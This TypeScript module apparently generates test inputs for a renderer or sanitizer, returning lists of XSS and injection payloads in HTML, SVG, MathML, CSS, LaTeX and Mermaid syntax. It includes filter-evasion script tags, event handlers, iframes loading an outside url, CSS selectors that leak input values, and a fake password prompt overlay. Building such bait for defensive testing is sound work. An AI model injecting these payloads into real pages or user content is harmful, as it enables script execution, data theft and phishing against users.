/** Texts that would do something as HTML, SVG, MathML or CSS. */
import type { Bait } from './bait.ts';

export function scripts({ js, url }: Bait): string[] {
  return [
    `<script>${js}</script>`,
    `<ScRiPt>${js}</sCrIpT>`,
    `<script\n>${js}</script\n>`,
    `<script\t\r\n type="text/javascript">${js}</script>`,
    `<script/x>${js}</script>`,
    `<script src=${url}/s.js></script>`,
    `<SCRIPT/SRC="${url}/s.js"></SCRIPT>`,
    `<script src="${url.slice(5)}/s.js"></script>`,
    `<script type=module>${js}</script>`,
    `<script type="module" src="${url}/m.js"></script>`,
    `<script async defer src='${url}/s.js'></script>`,
    `<script>${js}`,
    `<script>${js}//`,
    `<scr<script>ipt>${js}</scr</script>ipt>`,
    `<<script>${js}//<</script>`,
    `"><script>${js}</script>`,
    `'-->--!></textarea></title></style><script>${js}</script>`,
    `</script><script>${js}</script>`,
    `<script>/*\n\n*/${js}/*\n\n*/</script>`,
    `<noscript><p title="</noscript><script>${js}</script>">`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}/next"]}]}</script>`,
    `<script type="importmap">{"imports":{"x":"${url}/x.js"}}</script><script type=module>import "x"</script>`,
    `<scr\u0000ipt>${js}</scr\u0000ipt>`,
    `<script \u00a0>${js}</script>`,
    `&lt;script&gt;${js}&lt;/script&gt;`,
    `&#60;script&#62;${js}&#60;/script&#62;`,
    `&#x3C;script&#x3e;${js}&#x3C;/script&#x3e;`,
    String.raw`\x3cscript\x3e${js}\x3c/script\x3e \u003cscript\u003e${js}\u003c/script\u003e`,
    `%3Cscript%3E${js}%3C%2Fscript%3E`,
    `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E`,
    `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
    `\`\`<script>${js}</script>\`\` <script>${js}</script>`,
  ];
}

export function handlers({ js }: Bait): string[] {
  const tags: [tag: string, handler: string][] = [
    ['<img src=x', 'onerror'],
    ['<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', 'onload'],
    ['<svg', 'onload'],
    ['<body', 'onload'],
    ['<body', 'onpageshow'],
    ['<iframe src="about:blank"', 'onload'],
    ['<input autofocus', 'onfocus'],
    ['<select autofocus', 'onfocus'],
    ['<textarea autofocus', 'onfocus'],
    ['<button autofocus', 'onfocus'],
    ['<a href="#" autofocus', 'onfocusin'],
    ['<div tabindex=0 autofocus', 'onfocus'],
    ['<video><source', 'onerror'],
    ['<audio src=x', 'onerror'],
    ['<details open', 'ontoggle'],
    ['<object data=x', 'onerror'],
    ['<embed src="data:text/html,x"', 'onload'],
    ['<link rel=stylesheet href=x', 'onerror'],
    ['<style', 'onload'],
    ['<form><button', 'onclick'],
    ['<marquee', 'onstart'],
    ['<p style="position:fixed;inset:0"', 'onpointerenter'],
    ['<b', 'onmouseover'],
    ['<x style="animation:a 1ms"', 'onanimationstart'],
    ['<dialog open', 'onclose'],
    ['<input type=image src=x', 'onerror'],
    ['<script src=x', 'onerror'],
    ['<table background=x', 'onclick'],
    ['<isindex type=image src=x', 'onerror'],
    ['<xss contenteditable autofocus', 'onfocus'],
  ];
  return [
    ...tags.map(([tag, handler]) => `${tag} ${handler}=${js}>`),
    `<IMG SRC=x ONERROR="${js}">`,
    `<img/src=x/onerror=${js}>`,
    `<img src=x onerror\n=\n"${js}">`,
    `<img src=x onerror=&#114;&#97;&#110;()>`,
    `<img src='x' onerror='${js}' /`,
    `<img src=\`x\` onerror=\`${js}\`>`,
    `<img """><img src=x onerror=${js}>">`,
    `<img src=x onerror="javascript:${js}">`,
    `<img src=x:x onerror\u000c=${js}>`,
    `<img alt="\`<img src=x onerror=${js}>\`">`,
  ];
}

export function embeds({ js, url }: Bait): string[] {
  return [
    `<iframe src="${url}/frame"></iframe>`,
    `<iframe src="javascript:${js}"></iframe>`,
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
    `<frameset><frame src="${url}/frame"></frameset>`,
    `<object data="${url}/object"></object>`,
    `<object data="javascript:${js}"></object>`,
    `<embed src="${url}/embed">`,
    `<applet code="x" codebase="${url}/"></applet>`,
    `<fencedframe src="${url}/fenced"></fencedframe><portal src="${url}/portal"></portal>`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<META HTTP-EQUIV=refresh CONTENT="0; URL=javascript:${js}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${js}</script>`,
    `<base href="${url}/"><img src=pixel>`,
    `<base target=_top><form action="${url}/form"><button>Continue</button></form>`,
    `<link rel=stylesheet href="${url}/style.css">`,
    `<link rel=prefetch href="${url}/prefetch">`,
    `<link rel=preload as=image href="${url}/preload">`,
    `<link rel=modulepreload href="${url}/m.js">`,
    `<link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}">`,
    `<link rel=manifest href="${url}/manifest.json"><link rel=icon href="${url}/icon">`,
    `<form action="${url}/form" method=post><input name=token value=x><input type=submit autofocus></form>`,
    `<form id=f></form><button form=f formaction="${url}/form">Allow once</button>`,
    `<a href="${url}/ping-target" ping="${url}/ping">ping</a>`,
    `<video autoplay poster="${url}/poster"><source src="${url}/video"></video>`,
    `<audio autoplay src="${url}/audio"></audio><track src="${url}/track">`,
    `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
    `<div><template shadowrootmode="open"><script>${js}</script></template></div>`,
    `<plaintext><script>${js}</script>`,
    `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
    `<textarea></textarea><img src=x onerror=${js}></textarea>`,
    `</title><img src=x onerror=${js}>`,
    `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
    `<bgsound src="${url}/sound"><body background="${url}/background">`,
  ];
}

export function drawings({ js, url }: Bait): string[] {
  return [
    `<svg><script>${js}</script></svg>`,
    `<svg><script href="${url}/s.js"></script></svg>`,
    `<svg><script xlink:href="data:,${js}"></script></svg>`,
    `<svg><g onload="${js}"></g></svg>`,
    `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
    `<svg><set onbegin="${js}" attributeName=x to=1></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>click</text></a></svg>`,
    `<svg><a xlink:href="javascript:${js}"><text y=20>click</text></a></svg>`,
    `<svg><use href="${url}/sprite.svg#x"/></svg>`,
    `<svg><image href="${url}/image.png"/></svg>`,
    `<svg><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>`,
    `<svg><style>@import "${url}/style.css";</style></svg>`,
    `<svg><feImage href="${url}/filter.png"/></svg>`,
    `<svg><desc><![CDATA[</desc><script>${js}</script>]]></svg>`,
    `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
    `<math href="javascript:${js}">click</math>`,
    `<math><annotation-xml encoding="text/html"><script>${js}</script></annotation-xml></math>`,
    `<?xml version="1.0"?><?xml-stylesheet href="${url}/style.xsl"?><x onclick="${js}"/>`,
  ];
}

export function comments({ js }: Bait): string[] {
  return [
    `<!--><script>${js}</script>-->`,
    `<!---><img src=x onerror=${js}>-->`,
    `<!-- --!><img src=x onerror=${js}> -->`,
    `<!-- a -- b --><script>${js}</script>`,
    `<!--[if true]><script>${js}</script><![endif]-->`,
    `<!--[if gte IE 4]>-->\n<script>${js}</script>\n<!--<![endif]-->`,
    `<![CDATA[<script>${js}</script>]]>`,
    `<![CDATA[x]]><img src=x onerror=${js}>]]>`,
    `<!DOCTYPE html [<!ENTITY x "<script>${js}</script>">]>&x;`,
    `<!x><script>${js}</script>`,
    `<?php echo 1 ?><script>${js}</script><?= 2 ?>`,
    `<!--\n\n<script>${js}</script>`,
  ];
}

export function styles({ js, url }: Bait): string[] {
  return [
    `<style>*{background:url("${url}/all")}</style>`,
    `<style>@import url(${url}/import.css);</style>`,
    `<style>@font-face{font-family:x;src:url(${url}/font.woff2)}*{font-family:x}</style>`,
    `<p style="background-image:url(${url}/style)">x</p>`,
    `<p style="background:image-set('${url}/set' 1x)">x</p>`,
    `<p style="width:expression(${js})">x</p>`,
    `<p style="-moz-binding:url(${url}/x.xml#x);behavior:url(${url}/x.htc)">x</p>`,
    `<p style="cursor:url(${url}/cursor),auto;list-style:url(${url}/list);mask:url(${url}/mask)">x</p>`,
    `<p style="background:u\\72l(${url}/escaped)">x</p>`,
    `<style>[role=log]{display:none}input[value^=a]{background:url(${url}/leak)}</style>`,
    `<style>*{position:fixed!important;inset:0!important}</style>`,
    `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired. Type your password.</div>`,
    `</style><style>body{content:url(${url}/content)}`,
    `<link rel="stylesheet" href="data:text/css,*{background:url(${url}/data)}">`,
  ];
}

/** Texts that would do something as mathematics or as diagrams, where these are more than words. */
export function formulas({ js, url }: Bait): string[] {
  const inside = [
    `\\href{javascript:${js}}{x}`,
    `\\url{${url}/url}`,
    `\\includegraphics{${url}/x.png}`,
    `\\class{dialog}{x} \\id{root}{x}`,
    `\\style{position:fixed;inset:0;background:url(${url}/style)}{x}`,
    `\\htmlStyle{background:url(${url}/style)}{x}`,
    `\\data{onclick=${js}}{x}`,
    `\\text{<img src=x onerror=${js}>}`,
    `\\text{</mtext><script>${js}</script>}`,
    `\\operatorname{"onload=${js}}`,
    `\\color{red;background:url(${url}/color)}{x}`,
    `\\texttip{x}{<b onclick=${js}>} \\toggle{a}{b}\\endtoggle`,
    `\\unicode{x3c}script\\unicode{x3e}${js}`,
    `\\char"3C \\verb|<script>${js}</script>|`,
    `\\def\\x{\\href{javascript:${js}}}\\x{y}`,
    `\\kern-900em \\rule{900em}{900em} \\raisebox{90em}{\\text{Allow once}}`,
    `\\def\\a{\\a\\a}\\a`,
    '\\frac{1}{'.repeat(180),
  ];
  return [...inside.map((tex) => `$${tex}$ \\(${tex}\\)`), ...inside.map((tex) => `\n\n$$\n${tex}\n$$\n`)];
}

export function diagrams({ js, url }: Bait): string[] {
  const lines = [
    `A["<script>${js}</script>"] --> B`,
    `A["<img src=x onerror=${js}>"] --> B`,
    `A["</text><foreignObject><iframe src='${url}/frame'></iframe></foreignObject>"]`,
    `A --> B\n  click A "javascript:${js}"`,
    `A --> B\n  click A href "${url}/click" _self\n  click B call ran()`,
    `A --> B\n  style A fill:url(${url}/fill),stroke:red;background:url(${url}/x)`,
    `A --> B\n  linkStyle 0 stroke:"/><script>${js}</script>`,
    `A --> B\n  classDef x fill:#000" onload="${js}\n  class A x`,
    `A -->|"' onclick='${js}"| B`,
    `subgraph "x" onmouseover="${js}"\n  A --> B\n  end`,
  ];
  const flows = lines.map((line) => `flowchart LR\n  ${line}`);
  const others = [
    `%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "*{background:url(${url}/theme)}"}}%%\ngraph TD\n  A --> B`,
    `---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n  A --> B`,
    `sequenceDiagram\n  participant A as <img src=x onerror=${js}>\n  A->>B: <script>${js}</script>\n  link A: x @ javascript:${js}`,
    `classDiagram\n  class A {\n    +x "onload=${js}"\n  }\n  link A "javascript:${js}"`,
    `erDiagram\n  A ||--o{ B : "</text><script>${js}</script>"`,
    `xychart-beta\n  title "</text><script>${js}</script>"\n  x-axis ["' onload='${js}"]\n  bar [1]`,
    `stateDiagram-v2\n  A --> B : <svg onload=${js}>`,
  ];
  return [...flows, ...others].map((source) => `\n\n\`\`\`mermaid\n${source}\n\`\`\`\n`);
}
